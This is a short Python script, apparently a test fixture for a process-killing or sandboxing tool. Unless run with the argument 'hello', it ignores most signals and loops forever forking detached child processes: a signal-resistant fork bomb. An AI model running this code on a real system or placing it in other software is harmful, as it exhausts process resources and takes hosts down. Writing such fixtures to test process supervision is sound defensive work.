import os
import signal
import sys

if __name__ == "__main__":
    print("nothing", flush=True)
    if "hello" in sys.argv:
        sys.exit()
    for number in set(range(1, 32)) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
